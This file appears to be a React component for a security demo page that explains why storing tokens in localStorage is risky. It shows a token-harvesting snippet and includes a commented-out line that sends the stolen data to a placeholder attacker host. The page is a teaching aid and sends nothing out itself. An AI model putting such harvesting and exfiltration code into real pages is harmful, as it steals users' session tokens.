"use client";

import { useState } from "react";
import { Json } from "@/components/ui/json";
import { secretText } from "@/components/ui/secret";

/** The "third-party script": what any script running on this origin can do. Shown verbatim on the page. */
function runThirdPartyScript() {
  const stolen: Record<string, string | null> = {};
  for (let i = 0; i < localStorage.length; i++) {
    const key = localStorage.key(i)!;
    stolen[key] = localStorage.getItem(key);
  }
  return { localStorage: stolen, "document.cookie": document.cookie };
}

const SOURCE = `// an analytics tag, a compromised npm package, an XSS payload…
const stolen = {};
for (let i = 0; i < localStorage.length; i++) {
  const key = localStorage.key(i);
  stolen[key] = localStorage.getItem(key);
}
// fetch("https://attacker.example/collect", { method: "POST", body: JSON.stringify(stolen) });
({ localStorage: stolen, "document.cookie": document.cookie });`;

/** Why localStorage is risky: run the script and see both tokens — but not the HttpOnly next-auth cookie. */
export function ThirdPartyScript({ revealed }: { revealed: boolean }) {
  const [stolen, setStolen] = useState<ReturnType<typeof runThirdPartyScript> | null>(null);
  // What the script got is shown under the page's one policy for secrets: prefixes until revealed. The script
  // itself got everything, in full — which the lengths make plain.
  const shown = stolen && {
    localStorage: Object.fromEntries(
      Object.entries(stolen.localStorage).map(([k, v]) => [k, v === null ? null : secretText(v, revealed)]),
    ),
    "document.cookie": stolen["document.cookie"],
  };
  return (
    <section aria-labelledby="bearer-xss" className="card min-w-0 space-y-3 border-t-4 border-t-red-500">
      <h2 id="bearer-xss" className="text-lg font-semibold">
        Why localStorage is risky
      </h2>
      <p className="text-sm text-slate-600">
        Every script that runs on this origin shares this page&apos;s localStorage. Here is what one would run:
      </p>
      <pre className="code">{SOURCE}</pre>
      <button type="button" className="btn-danger" onClick={() => setStolen(runThirdPartyScript())}>
        Run a third-party script
      </button>
      {stolen !== null && (
        <div>
          <p className="text-sm font-semibold" role="status">
            What it got:
          </p>
          <Json value={shown} testId="xss-output" />
          <p className="mt-1 text-xs text-slate-500">
            Both tokens, ready to use from anywhere. The next-auth session cookie is not in <code>document.cookie</code>
            : it is HttpOnly. This site&apos;s Content-Security-Policy makes injecting a script hard — but one bug or
            one bad dependency is enough.
          </p>
        </div>
      )}
    </section>
  );
}
